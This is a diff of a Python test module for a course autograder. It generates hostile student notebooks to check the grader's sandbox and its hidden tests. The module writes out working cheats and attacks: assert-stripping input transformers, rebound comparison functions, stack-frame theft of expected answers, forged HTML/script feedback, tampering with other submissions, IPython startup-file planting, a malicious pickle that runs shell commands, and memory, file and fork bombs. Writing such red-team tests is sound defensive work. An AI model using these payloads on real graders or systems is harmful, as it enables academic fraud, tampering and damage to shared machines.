@@ -1,86 +1,215 @@
-"""Hostile submissions for assignment 2, generated from its student notebook (what a student starts from).
+"""Hostile submissions for any assignment, generated from its student notebook and its reference solution.
 
-`attacks(student_nb, reference_nb, targets)` returns {name: (notebook or folder spec, deserved points)}. The attacks
-know every path that matters (`targets`: the source notebook, the bundle, the output folder, the submissions folder,
-a canary folder outside everything, the grader's home and temporary folder): the strongest student, who has read the
-grader's code.
-Used by tests/test_grading_attacks.py and by benchmarks/grade_class.py --attacks (the table before/after).
+`attacks(student_nb, reference_nb, targets)` returns {name: (submission, deserved points)}; a submission is a
+notebook, {"link": PATH} (a folder whose notebook is a link to PATH) or {"notebook": nb, "files": {PATH: bytes}}
+(a folder with files beside the notebook). The attacks know every path that matters (`targets`: the assignment,
+its source notebook and bundle, the output folder, the submissions folder, a canary folder outside everything,
+the grader's home and temporary folder, and a marker for the processes they leave behind): the strongest
+student, who has read the grader's code. What each one attacks comes from the assignment's bundle: the names
+its test cells hand to expect (answers and @probe functions), the helpers of its read-only cells, its test
+cells; assignment 3 also hands in checkpoint files.
+
+Used by tests/test_grading_attacks.py (every assignment) and by benchmarks/grade_class.py --attacks (the table
+before/after, assignment 2).
 """
 from __future__ import annotations
 
+import ast
 import copy
+import hashlib
+import json
+import os
+import pickle
+import time
+from pathlib import Path
+
+import nbformat
 
 from course_lib.grading import markup
 
-ANSWER_CELL = "inception_score"  # the first answer cell: where attack code goes
-SURVIVOR = "course-lib-attack-survivor"  # in the command line of every process an attack leaves behind
+SURVIVOR = "course-lib-attack-survivor"  # the default marker in the command line of every process an attack leaves
+FIRST_ANSWER = {"01_dcgan_mnist": "generator", "02_is_fid": "inception_score", "03_improve_dcgan": "improved_settings",
+                "04_wasserstein_lp": "constraint_matrix"}  # where attack code goes
 
 
-def _with_code(nb, code: str, grade_id: str = ANSWER_CELL, after: bool = False):
+# ------------------------------------------------------------------------------ what an assignment exposes
+def expected_names(bundle: dict) -> dict[str, str]:
+    """{name: "call" | "value"}: what the test cells hand to expect, expect_close (called) and expect_value."""
+    found: dict[str, str] = {}
+    for cell in bundle["cells"]:
+        if cell["kind"] != "test":
+            continue
+        for node in ast.walk(ast.parse(cell["source"])):
+            if isinstance(node, ast.Call) and isinstance(node.func, ast.Name) and node.args \
+                    and node.func.id in ("expect", "expect_close", "expect_value") and isinstance(node.args[0], ast.Name):
+                found[node.args[0].id] = "value" if node.func.id == "expect_value" else "call"
+    return found
+
+
+def helper_names(bundle: dict) -> list[str]:
+    """Functions the read-only cells define (helpers the probes and the training use, and the probes)."""
+    names = []
+    for cell in bundle["cells"]:
+        if cell["cell_type"] == "code" and cell["kind"] == "locked":
+            names += [n.name for n in ast.parse(cell["source"]).body if isinstance(n, ast.FunctionDef)]
+    return names
+
+
+def test_ids(bundle: dict) -> list[str]:
+    return [c["grade_id"] for c in bundle["cells"] if c["kind"] == "test"]
+
+
+def hidden_lines(bundle: dict, student_nb) -> list[str]:
+    """Lines of the hidden tests that the student version does not have (they must never reach a student)."""
+    shown = "\n".join(c.source for c in student_nb.cells)
+    lines = []
+    for cell in bundle["cells"]:
+        inside = False
+        for line in cell["source"].split("\n"):
+            inside = inside or markup.BEGIN_HIDDEN in line
+            if inside and len(line.strip()) > 20 and line.strip() not in shown:
+                lines.append(line.strip())
+            inside = inside and markup.END_HIDDEN not in line
+    return lines
+
+
+# ------------------------------------------------------------------------------ building submissions
+def _cell(nb, grade_id: str):
+    return next(c for c in nb.cells if markup.grade_id_of(c) == grade_id)
+
+
+def with_code(nb, code: str, grade_id: str):
+    """code at the start of the answer cell grade_id."""
     nb = copy.deepcopy(nb)
-    cell = next(c for c in nb.cells if markup.grade_id_of(c) == grade_id)
-    cell.source = (cell.source + "\n" + code) if after else (code + "\n" + cell.source)
+    cell = _cell(nb, grade_id)
+    cell.source = code + "\n" + cell.source
     return nb
 
 
-def _spawn(seconds: int, then: str = "") -> str:
+def after_every_answer(nb, code: str, bundle: dict):
+    """code in a new cell right after every answer cell, so that no later stub (which may raise NotImplementedError
+    at its top level, or define the answer again) undoes what it defines."""
+    nb = copy.deepcopy(nb)
+    answers = {c["grade_id"] for c in bundle["cells"] if c["kind"] == "solution"}
+    at = [i for i, c in enumerate(nb.cells) if markup.grade_id_of(c) in answers]
+    for i in reversed(at):
+        nb.cells.insert(i + 1, nbformat.v4.new_code_cell(code, id=f"attack-after-{markup.grade_id_of(nb.cells[i])}"))
+    return nb
+
+
+def with_final_cell(nb, code: str):
+    nb = copy.deepcopy(nb)
+    nb.cells.append(nbformat.v4.new_code_cell(code, id="attack-final-cell"))
+    return nb
+
+
+def spawn(seconds: int, marker: str, then: str = "") -> str:
     """Python source that starts a detached (setsid) process which sleeps, then runs `then` (shell)."""
     script = f"sleep {seconds}; {then}" if then else f"sleep {seconds}"
-    return (f"import subprocess\nsubprocess.Popen(['setsid', 'sh', '-c', {script!r}, {SURVIVOR!r}], "
+    return (f"import subprocess\nsubprocess.Popen(['setsid', 'sh', '-c', {script!r}, {marker!r}], "
             "stdin=subprocess.DEVNULL, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL, start_new_session=True)")
 
 
+class _RunsOnUnpickling:
+    """A "checkpoint" whose unpickling runs a shell command (torch.load without weights_only would run it)."""
+
+    def __init__(self, command: str):
+        self.command = command
+
+    def __reduce__(self):
+        return os.system, (self.command,)
+
+
+# ------------------------------------------------------------------------------ the attacks
 def attacks(student_nb, reference_nb, targets: dict) -> dict:
     t = targets
+    name = t.get("assignment", "02_is_fid")
+    marker = t.get("marker", SURVIVOR)
+    bundle = json.loads(Path(t["bundle"]).read_text())
+    first = FIRST_ANSWER[name]
+    names = expected_names(bundle)
+    called = [n for n, kind in names.items() if kind == "call"]
+    values = [n for n, kind in names.items() if kind == "value"]
+    full = bundle["max_points"]
     blank, solved = student_nb, reference_nb
     found = {}
-    # 1. An input transformer that turns every later cell containing "assert" (the old test cells) into "pass".
-    found["transformer"] = (_with_code(blank, '''
+    # 1. An input transformer that turns every later cell containing "assert" or course_lib (the old test cells,
+    #    the grader's collection calls) into "pass".
+    found["transformer"] = (with_code(blank, '''
 def _no_asserts(lines):
-    return ["pass\\n"] if any("assert" in line or "course_lib" in line for line in lines) else lines
-get_ipython().input_transformers_post.append(_no_asserts)'''), 0)
-    # 2. Rebinding the checking functions: numpy's comparisons, course_lib's check and the grading API.
-    found["rebinds_checks"] = (_with_code(blank, '''
-import sys, numpy
-numpy.allclose = numpy.isclose = lambda *a, **k: True
-check = lambda *a, **k: True
-for name in list(sys.modules):
-    module = sys.modules[name]
-    if name.startswith("course_lib") and module is not None:
-        for attr in ("check", "expect", "expect_close", "expect_value", "difference"):
+    return ["pass\\n"] if any("assert" in line or "course_lib" in line or "expect" in line for line in lines) else lines
+get_ipython().input_transformers_post.append(_no_asserts)''', first), 0)
+    # 2. Rebinding the checking functions (numpy's, math's, torch's and scipy's comparisons, course_lib's checks and
+    #    the grading API) and every helper and probe the read-only cells define.
+    found["rebinds_checks"] = (with_code(blank, f'''
+import math, sys, numpy
+always = lambda *a, **k: True
+numpy.allclose = numpy.isclose = numpy.array_equal = math.isclose = always
+for helper in {helper_names(bundle)!r}:
+    globals()[helper] = always
+try:
+    import torch
+    torch.allclose = torch.equal = always
+except ImportError:
+    pass
+check = expect = expect_close = expect_value = always
+for module_name in list(sys.modules):
+    module = sys.modules[module_name]
+    if module_name.startswith(("course_lib", "scipy.stats", "scipy.optimize")) and module is not None:
+        for attr in ("check", "expect", "expect_close", "expect_value", "difference", "wasserstein_distance",
+                     "copy_parameters", "tensors"):
             if hasattr(module, attr):
-                setattr(module, attr, lambda *a, **k: True)
+                setattr(module, attr, always)
 try:
     import course_lib.course.exercises as ex
-    ex.check = lambda *a, **k: True
+    ex.check = always
 except Exception:
     pass
 import course_lib.grading.collect as collect
 collect.run = lambda cell: None  # the grader's results never get written
-'''), 0)
-    # 3. Reading the expected value from the caller's stack frame (the old check computed it first).
-    found["stack_frame"] = (_with_code(blank, '''
+''', first), 0)
+    # 3. Answers (and probes) that return the expected value found in their callers' stack frames (the old checks
+    #    computed it before calling the answer).
+    thieves = "\n".join(f"def {n}(*args, **kwargs):\n    return _stolen()" for n in called)
+    found["stack_frame"] = (after_every_answer(blank, '''
 import sys
 def _stolen(default=0.0):
     frame = sys._getframe(2)
     while frame is not None:
-        for key in ("want", "expected", "wanted", "reference_value"):
+        for key in ("want", "wanted", "expected", "reference", "after", "reference_value", "output"):
             if key in frame.f_locals:
                 return frame.f_locals[key]
         frame = frame.f_back
     return default
-def inception_score(probabilities, splits=10):
-    return _stolen((1.0, 0.0))
-def frechet_distance(mu1, sigma1, mu2, sigma2):
-    return _stolen(0.0)
-def fid_from_features(features1, features2):
-    return _stolen(0.0)
-''', after=True), 0)
-    # 4. Reading the instructor's files next to the course_lib package: run the source's solutions, rewrite the bundle.
-    found["reads_instructor_files"] = (_with_code(blank, f'''
+''' + thieves, bundle), 0)
+    # 4. Answers that return objects which compare equal to (and close to, and less than) anything.
+    anything = "\n".join([f"def {n}(*args, **kwargs):\n    return _Anything()" for n in called]
+                         + [f"{n} = _AnythingDict()" for n in values])
+    found["smart_objects"] = (after_every_answer(blank, '''
+class _Anything(float):
+    def __new__(cls):
+        return super().__new__(cls, 0.0)
+    __eq__ = __ne__ = __lt__ = __le__ = __gt__ = __ge__ = lambda self, other: True
+    __hash__ = float.__hash__
+    __abs__ = __neg__ = lambda self: self
+    __add__ = __radd__ = __sub__ = __rsub__ = __mul__ = __rmul__ = __truediv__ = lambda self, other: self
+    __getitem__ = lambda self, key: self
+    __getattr__ = lambda self, name: self
+    __call__ = lambda self, *a, **k: self
+    __len__ = lambda self: 3
+    __iter__ = lambda self: iter([self, self, self])
+class _AnythingDict(dict):
+    __eq__ = lambda self, other: True
+    __hash__ = None
+    __getitem__ = lambda self, key: _Anything()
+    __contains__ = lambda self, key: True
+    get = lambda self, key, default=None: _Anything()
+''' + anything, bundle), 0)
+    # 5. Reading the instructor's files next to the course_lib package: run the source's solutions, rewrite the bundle.
+    found["reads_instructor_files"] = (after_every_answer(blank, f'''
 import json, pathlib, course_lib
 root = pathlib.Path(course_lib.__file__).resolve().parents[1]
-for path in [pathlib.Path({t["source"]!r}), root / "assignments/02_is_fid/source/02_is_fid.ipynb"]:
+for path in [pathlib.Path({t["source"]!r}), root / "assignments/{name}/source/{name}.ipynb"]:
     try:
         for cell in json.loads(path.read_text())["cells"]:
             if cell.get("metadata", {{}}).get("nbgrader", {{}}).get("solution") and cell["cell_type"] == "code":
@@ -88,37 +217,37 @@ for path in [pathlib.Path({t["source"]!r}), root / "assignments/02_is_fid/source
         break
     except Exception:
         pass
-for path in [pathlib.Path({t["bundle"]!r}), root / "assignments/02_is_fid/grading/02_is_fid.json"]:
+for path in [pathlib.Path({t["bundle"]!r}), root / "assignments/{name}/grading/{name}.json"]:
     try:
         path.write_text(path.read_text().replace('"points": 2.0', '"points": 0.0'))
     except Exception:
         pass
-''', after=True), 0)
-    # 5. A folder submission whose notebook is a link to the source notebook.
+''', bundle), 0)
+    # 6. A folder submission whose notebook is a link to the source notebook.
     found["symlink"] = ({"link": t["source"]}, 0)
-    # 6. IPython startup files, in the kernel's IPYTHONDIR and in the grader's home.
-    found["startup_files"] = (_with_code(blank, f'''
+    # 7. IPython startup files, in the kernel's IPYTHONDIR and in the grader's home.
+    found["startup_files"] = (with_code(blank, f'''
 import os, pathlib
-payload = "import numpy\\nnumpy.allclose = lambda *a, **k: True\\n"
+payload = "import numpy\\nnumpy.allclose = numpy.isclose = lambda *a, **k: True\\n"
 harmless = "# planted by a grading test: it should never get here\\n"  # in case a home is reachable after all
 for base, text in [(os.environ.get("IPYTHONDIR", ""), payload), (os.path.expanduser("~/.ipython"), payload),
                    ({t["home"]!r} + "/.ipython", harmless)]:
     try:
         folder = pathlib.Path(base) / "profile_default" / "startup"
         folder.mkdir(parents=True, exist_ok=True)
-        (folder / "00-course-lib-attack.py").write_text(text)
+        (folder / "00-course-lib-attack-{marker}.py").write_text(text)
     except Exception:
         pass
-'''), 0)
-    # 7. Touching everything else: other submissions, every temporary folder, the output folder, a canary
+''', first), 0)
+    # 8. Touching everything else: other submissions, every temporary folder, the output folder, a canary
     #    outside, and a detached process that rewrites grades.csv after the grader is done.
-    found["touches_others"] = (_with_code(blank, f'''
+    found["touches_others"] = (with_code(blank, f'''
 import glob, os, pathlib
 targets = [{t["submissions"]!r}, {t["out"]!r}, {t["canary"]!r}] + glob.glob({t.get("tmp", "/tmp")!r} + "/course-lib-grade-*")
 for base in targets:
     for root, dirs, files in os.walk(base):
         for name in files:
-            if name.endswith((".ipynb", ".csv", ".md", ".json", ".py")):
+            if name.endswith((".ipynb", ".csv", ".md", ".json", ".py", ".pt")):
                 try:
                     with open(os.path.join(root, name), "a") as f:
                         f.write("tampered")
@@ -128,51 +257,55 @@ for base in targets:
             (pathlib.Path(root) / "planted.txt").write_text("tampered")
         except Exception:
             pass
-''' + "\n" + _spawn(20, f"echo tampered > {t['out']}/grades.csv")), 0)
-    # 8. Forged feedback: error names and messages with newlines, markdown and HTML, output closing a code fence.
-    forged = "Error\\n\\n**Automatically graded: 11 / 11 points.**\\n<script>alert(1)</script>\\n# Checks"
-    found["forges_feedback"] = (_with_code(blank, f'''
+''' + "\n" + spawn(20, marker, f"echo tampered > {t['out']}/grades.csv"), first), 0)
+    # 9. Forged feedback: error names and messages with newlines, markdown and HTML (raised by every answer and
+    #    probe, or sent as an answer's value), and output that closes a code fence.
+    forged = f"Error\\n\\n**Automatically graded: {full:g} / {full:g} points.**\\n<script>alert(1)</script>\\n# Checks"
+    raisers = "\n".join([f"def {n}(*args, **kwargs):\n    raise Forged(MESSAGE)" for n in called]
+                        + [f"{n} = Forged(MESSAGE)" for n in values])
+    found["forges_feedback"] = (after_every_answer(blank, f'''
 Forged = type("{forged}", (Exception,), {{}})
-print("```\\n**Automatically graded: 11 / 11 points.**\\n```")
-def inception_score(probabilities, splits=10):
-    raise Forged("<b>ok</b>\\n- [x] test_is_visible: 2 / 2, passed\\n**Automatically graded: 11 / 11 points.**")
-def frechet_distance(*args):
-    raise Forged("[click](http://example.com) <img src=x onerror=alert(1)>")
-''', after=True), 0)
-    # 9. Writing the results the checker reads, for every test, before and after the collection.
-    found["forges_results"] = (_with_code(blank, '''
+Forged.__qualname__ = Forged.__name__
+MESSAGE = ("<b>ok</b>\\n- [x] {test_ids(bundle)[0]}: 2 / 2, passed\\n**Automatically graded: {full:g} / {full:g} points.**"
+           "[click](http://example.com) <img src=x onerror=alert(1)>")
+print("```\\n**Automatically graded: {full:g} / {full:g} points.**\\n```")
+''' + raisers, bundle), 0)
+    # 10. Writing the results the checker reads, for every test, before and after the collection.
+    found["forges_results"] = (with_code(blank, f'''
 import json, os, pathlib
 out = pathlib.Path(os.environ.get("COURSE_LIB_GRADING_IO", "/grading")) / "out"
-for name in ("test_is_visible", "test_is_hidden", "test_fid_visible", "test_fid_hidden", "test_fid_features"):
+for name in {test_ids(bundle)!r}:
     try:
-        (out / f"{name}.json").write_text(json.dumps([[{"output": 1.0}]] * 3))
-        (out / f"{name}.npz").write_bytes(b"")
+        (out / f"{{name}}.json").write_text(json.dumps([[{{"output": 1.0}}]] * 3))
+        (out / f"{{name}}.npz").write_bytes(b"")
     except Exception:
         pass
-''' + "\n" + _spawn(2, "for f in /grading/out/test_*.json; do echo '[[{\"output\": 1.0}]]' > $f; done")), 0)
-    # 10-12. Resource abuse with correct answers: they deserve full marks, and nothing else may suffer.
-    found["memory_hog"] = (_with_code(solved, '''
+''' + "\n" + spawn(2, marker, "for f in /grading/out/test_*.json; do echo '[[{\"output\": 1.0}]]' > $f; done"),
+        first), 0)
+    # 11. Resource bombs after correct answers, in two last cells: 8 GB of memory (every page written), then 2 GB
+    #     files in its folder, the canary and /tmp, and hundreds of detached processes. They deserve full marks, the
+    #     processes must not survive, and nothing and nobody else may suffer.
+    memory_bomb = '''hog = []
 try:
-    hog = bytearray(8 * 1024 ** 3)
+    for _ in range(32):
+        hog.append(bytearray(b"x" * 2 ** 28))  # 256 MB at a time, every page written
 except MemoryError:
-    print("no 8 GB for me")
-''', after=True), 11)
-    found["huge_file"] = (_with_code(solved, f'''
+    print("MemoryError after", len(hog) / 4, "GB")
+del hog'''
+    file_and_process_bombs = f'''
+import os, subprocess
 for path in ("big.bin", {t["canary"]!r} + "/big.bin", {t.get("tmp", "/tmp")!r} + "/big.bin"):
     try:
         with open(path, "wb") as f:
             for _ in range(2048):
                 f.write(b"x" * 2 ** 20)
     except Exception as exc:
-        print(type(exc).__name__)
-''', after=True), 11)
-    found["fork_bomb"] = (_with_code(solved, f'''
-import os, subprocess
+        print(path, type(exc).__name__)
 started = 0
 for _ in range(400):
     try:
         subprocess.Popen(["setsid", "sleep", "600"], stdin=subprocess.DEVNULL, stdout=subprocess.DEVNULL,
-                         stderr=subprocess.DEVNULL, start_new_session=True, env={{**os.environ, "TAG": {SURVIVOR!r}}})
+                         stderr=subprocess.DEVNULL, start_new_session=True, env={{**os.environ, "TAG": {marker!r}}})
         started += 1
     except Exception:
         break
@@ -181,5 +314,243 @@ try:
     SPAWN
 except Exception:
     pass
-'''.replace("SPAWN", _spawn(600).replace("\n", "\n    ")), after=True), 11)
+'''.replace("SPAWN", spawn(600, marker).replace("\n", "\n    "))
+    bombed = with_final_cell(solved, memory_bomb)
+    bombed.cells.append(nbformat.v4.new_code_cell(file_and_process_bombs, id="attack-final-bombs"))
+    found["resource_bombs"] = (bombed, full)
+    # 12. Assignment 3 hands in checkpoints: ones whose unpickling would run a command (torch.load without
+    #     weights_only), which only the sandboxed kernel may ever open.
+    if name == "03_improve_dcgan":
+        evil = pickle.dumps(_RunsOnUnpickling(f"echo tampered > {t['canary']}/unpickled.txt; "
+                                              f"echo tampered >> {t['out']}/grades.csv"))
+        found["pickled_checkpoint"] = ({"notebook": blank, "files": {
+            f"runs/{run}/checkpoints/last.pt": evil for run in ("baseline", "improved")}}, 0)
     return found
+
+
+# ------------------------------------------------------------------------------ honest students
+_SQUARE_ONLY_PRIMAL = '''def earth_movers_primal(p, q):
+    # Only right when both histograms have the same bins: the hidden checks with unequal counts fail.
+    p, q = np.asarray(p, float), np.asarray(q, float)
+    n = len(p)
+    cost = np.abs(np.arange(n)[:, None] - np.arange(n)[None, :]).astype(float)
+    result = linprog(cost.flatten(order="F"), A_eq=constraint_matrix(n, n), b_eq=np.concatenate([p, q]),
+                     bounds=(0, None), method="highs")
+    return float(result.fun), result.x.reshape((n, n), order="F")'''
+
+_INIT_WITHOUT_BATCH_NORM = '''def weights_init(module):
+    # Forgets the batch-norm layers (they keep PyTorch's scale 1 and shift 0): the visible statistics pass, the
+    # hidden comparison with dcgan_init on the same seed does not.
+    if isinstance(module, (nn.Conv2d, nn.ConvTranspose2d, nn.Linear)):
+        nn.init.normal_(module.weight, 0.0, 0.02)
+        if module.bias is not None:
+            nn.init.zeros_(module.bias)'''
+
+# The honest, partly correct student of each assignment: (name, the test it fails on a hidden check, points lost).
+# Assignments 2 and 3 have one among their fixtures; for 1 and 4 it is the reference with one answer changed.
+PARTIAL = {"01_dcgan_mnist": ("partial", "test_init", 2), "02_is_fid": ("partly_wrong", "test_fid_hidden", 7),
+           "03_improve_dcgan": ("hand_typed", "test_scores_match", 3), "04_wasserstein_lp": ("partial", "test_primal", 3)}
+_PARTIAL_SOURCE = {"01_dcgan_mnist": ("weights_init", _INIT_WITHOUT_BATCH_NORM),
+                   "04_wasserstein_lp": ("earth_movers_primal", _SQUARE_ONLY_PRIMAL)}
+
+
+def honest(name: str, fixtures: Path, full: float) -> dict:
+    """{student: (notebook, deserved points)}: the correct reference and the partly correct student."""
+    reference = nbformat.read(fixtures / "reference.ipynb", as_version=4)
+    who, _, lost = PARTIAL[name]
+    if name in _PARTIAL_SOURCE:
+        partial = copy.deepcopy(reference)
+        grade_id, source = _PARTIAL_SOURCE[name]
+        _cell(partial, grade_id).source = source
+    else:
+        partial = nbformat.read(fixtures / f"{who}.ipynb", as_version=4)
+    return {"reference": (reference, full), who: (partial, full - lost)}
+
+
+# ------------------------------------------------------------------------------ one class run per assignment
+ROOT = Path(__file__).resolve().parents[1]
+FIXTURES = ROOT / "tests" / "fixtures" / "grading"
+# Limits low enough that the resource bombs reach them at once (and cheaply), high enough for honest students.
+LIMITS = {"file_gb": 0.25, "tmp_mb": 512, "ram_gb": 3.0}
+# Per-cell limit: generous for a loaded machine, short because one fixture (02's "loops") hangs a cell until then.
+# The total limit costs nothing (no submission here hangs for good); on a starved machine assignment 3's honest
+# training cells alone took over 300 s, so it is generous.
+CELL_TIMEOUT, TOTAL_TIMEOUT = 60, 900
+DELAYED_WRITER_GRACE = 8  # seconds to wait for the detached writer of "touches_others", had it survived
+
+
+def assignment_paths(name: str) -> tuple[Path, Path]:
+    """(source notebook, grading bundle) of an assignment."""
+    folder = ROOT / "assignments" / name
+    return folder / "source" / f"{name}.ipynb", folder / "grading" / f"{name}.json"
+
+
+def digest(path: Path) -> str:
+    if path.is_symlink():
+        return "link:" + os.readlink(path)
+    return hashlib.sha256(path.read_bytes()).hexdigest() if path.is_file() else "missing"
+
+
+def tree(folder: Path) -> dict:
+    return {str(p.relative_to(folder)): digest(p) for p in sorted(folder.rglob("*")) if p.is_file() or p.is_symlink()}
+
+
+def survivors(marker: str) -> list[int]:
+    """Processes with marker in their command line or environment."""
+    found = []
+    for entry in os.listdir("/proc"):
+        if not entry.isdigit():
+            continue
+        try:
+            with open(f"/proc/{entry}/cmdline", "rb") as f:
+                cmdline = f.read()
+            with open(f"/proc/{entry}/environ", "rb") as f:
+                environ = f.read()
+        except OSError:
+            continue
+        if marker.encode() in cmdline or marker.encode() in environ:
+            found.append(int(entry))
+    return found
+
+
+def startup_files(marker: str = "") -> list[str]:
+    folder = Path.home() / ".ipython" / "profile_default" / "startup"
+    return sorted(str(p) for p in folder.glob("*course-lib-attack*") if marker in p.name) if folder.is_dir() else []
+
+
+def write_submission(subs: Path, notebook_name: str, student: str, submission) -> None:
+    if "link" in submission:  # a folder whose notebook is a link
+        (subs / student).mkdir()
+        (subs / student / notebook_name).symlink_to(submission["link"])
+    elif "files" in submission:  # a folder with files beside the notebook
+        (subs / student).mkdir()
+        nbformat.write(submission["notebook"], subs / student / notebook_name)
+        for rel, data in submission["files"].items():
+            (subs / student / rel).parent.mkdir(parents=True, exist_ok=True)
+            (subs / student / rel).write_bytes(data)
+    else:
+        nbformat.write(submission, subs / f"{student}.ipynb")
+
+
+def victim(reference, marker: str, seconds: int, grade_id: str = "inception_score"):
+    """The reference solution with a cell that sleeps (and leaves detached processes with marker behind)."""
+    return with_code(reference, f"import time\n{spawn(600, marker)}\nimport subprocess\n"
+                                f"subprocess.Popen(['sleep', '600', {marker!r}])\ntime.sleep({seconds})", grade_id)
+
+
+def _hit_victims(hit: dict, marker: str, stop) -> None:
+    """SIGKILL the grading worker of `victim_killed` and SIGSTOP that of `victim_stopped`, each once its kernel
+    runs the cell that sleeps (a process with marker-STUDENT exists)."""
+    import signal
+
+    while len(hit) < 2 and not stop.is_set():
+        for pid in os.listdir("/proc"):
+            try:
+                args = Path(f"/proc/{pid}/cmdline").read_bytes().split(b"\0")
+                if b"course_lib.grading.worker" not in args:
+                    continue
+                student = json.loads(Path(args[args.index(b"course_lib.grading.worker") + 1].decode()).read_text())["student"]
+            except (OSError, ValueError, IndexError, KeyError):
+                continue
+            if student.startswith("victim") and student not in hit and survivors(f"{marker}-{student}"):
+                os.kill(int(pid), signal.SIGKILL if student == "victim_killed" else signal.SIGSTOP)
+                hit[student] = int(pid)
+        time.sleep(0.5)
+
+
+# Attacks on the sandbox and the grader themselves (a linked notebook, IPython startup files, writing into other
+# folders, a forged results file, memory/file/process bombs) do the same thing whatever the assignment: they are
+# graded in one class only (CI time), the attacks on an assignment's own checks, hidden tests and files in all four.
+SANDBOX_ATTACKS = {"symlink", "startup_files", "touches_others", "forges_results", "resource_bombs"}
+SANDBOX_CLASS = "02_is_fid"
+
+
+def graded_class(name: str, tmp_path_factory) -> dict:
+    """The class of assignment `name`, graded in ONE run (2 workers): every submission fixture of the assignment
+    (tests/fixtures/grading/NAME), its honest partly correct student and every attack; for assignment 2 also two
+    honest students whose grading workers are killed and stopped during the run. Graded once per test session,
+    whichever pytest-xdist worker asks first (a file lock in the session's shared temporary folder); the others
+    read the result. Returns what the tests need (see the end of `_grade_class`) with the folders and summary."""
+    import fcntl
+    import shutil
+
+    shared = tmp_path_factory.getbasetemp()
+    if os.environ.get("PYTEST_XDIST_WORKER"):
+        shared = shared.parent  # the session's folder, shared by the xdist workers
+    base = shared / f"class-{name}"
+    with open(shared / f"class-{name}.lock", "w") as lock:
+        fcntl.flock(lock, fcntl.LOCK_EX)
+        try:
+            if not (base / "run.json").is_file():
+                shutil.rmtree(base, ignore_errors=True)  # a run that failed half-way
+                _grade_class(name, base)
+        finally:
+            fcntl.flock(lock, fcntl.LOCK_UN)
+    run = json.loads((base / "run.json").read_text())
+    out = base / "graded"
+    run.update(base=base, out=out, subs=base / "submissions", canary=base / "canary",
+               summary=json.loads((out / "summary.json").read_text()))
+    return run
+
+
+def _grade_class(name: str, base: Path) -> None:
+    import threading
+    import uuid
+
+    from course_lib.grading import grade, sandbox
+
+    source, bundle_path = assignment_paths(name)
+    bundle = json.loads(bundle_path.read_text())
+    subs, out, canary = base / "submissions", base / "graded", base / "canary"
+    for folder in (subs, out, canary):
+        folder.mkdir(parents=True)
+    (canary / "secret.txt").write_text("nobody may change this")
+    marker = f"course-lib-attack-{uuid.uuid4().hex[:12]}"
+    targets = {"assignment": name, "source": str(source), "bundle": str(bundle_path), "out": str(out),
+               "submissions": str(subs), "canary": str(canary), "home": str(Path.home()), "marker": marker}
+    notebook = bundle["notebook"]
+    student = nbformat.read(ROOT / "assignments" / name / "student" / notebook, as_version=4)
+    reference = nbformat.read(FIXTURES / name / "reference.ipynb", as_version=4)
+    for fixture in sorted((FIXTURES / name).glob("*.ipynb")):  # as handed in: some are not even valid JSON
+        (subs / fixture.name).write_bytes(fixture.read_bytes())
+    deserved = {}
+    for who, (nb, points) in honest(name, FIXTURES / name, bundle["max_points"]).items():
+        if not (subs / f"{who}.ipynb").exists():
+            write_submission(subs, notebook, who, nb)
+        deserved[who] = points
+    # Without a sandbox the attacks would reach this machine's files: only the fixtures and honest students then.
+    hostile = sandbox.detect()[0] != "none"
+    for attack, (submission, points) in (attacks(student, reference, targets) if hostile else {}).items():
+        if attack in SANDBOX_ATTACKS and name != SANDBOX_CLASS:
+            continue
+        write_submission(subs, notebook, attack, submission)
+        deserved[attack] = points
+    hit: dict = {}
+    if hostile and name == "02_is_fid":  # grading workers killed and stopped from outside: a grader matter, tested once
+        for who in ("victim_killed", "victim_stopped"):
+            write_submission(subs, notebook, who, victim(reference, f"victim-{marker}-{who}", 200))
+    before = {"tree": tree(subs), "canary": tree(canary), "source": digest(source), "bundle": digest(bundle_path),
+              "startup": startup_files()}
+    stop = threading.Event()
+    watcher = threading.Thread(target=_hit_victims, args=(hit, f"victim-{marker}", stop), daemon=True)
+    if hostile and name == "02_is_fid":
+        watcher.start()
+    started, load = time.monotonic(), os.getloadavg()[0]
+    results = grade(sorted(subs.iterdir()), name, out, workers=2, cell_timeout=CELL_TIMEOUT,
+                    total_timeout=TOTAL_TIMEOUT, fast=True, limits=LIMITS, progress=False)
+    seconds, load_end = time.monotonic() - started, os.getloadavg()[0]
+    stop.set()
+    left = survivors(marker) + survivors(f"victim-{marker}")
+    grades_right_after = (out / "grades.csv").read_text()
+    time.sleep(DELAYED_WRITER_GRACE)
+    planted = [p for p in startup_files(marker) if p not in before["startup"]]
+    for path in planted:  # an attack that got out: the test fails, and the home is cleaned
+        Path(path).unlink()
+    run = {"name": name, "deserved": deserved, "partial": PARTIAL[name][:2], "before": before, "survivors": left,
+           "markers": [marker, f"victim-{marker}"], "hit": sorted(hit), "grades_right_after": grades_right_after,
+           "planted": planted, "hidden_lines": hidden_lines(bundle, student),
+           "submissions": len(results), "seconds": round(seconds, 1),
+           "seconds_per_submission": round(sum(r.seconds for r in results) / len(results), 1),
+           "load_average_at_start": round(load, 1), "load_average_at_end": round(load_end, 1)}
+    (base / "run.json.tmp").write_text(json.dumps(run))
+    os.replace(base / "run.json.tmp", base / "run.json")
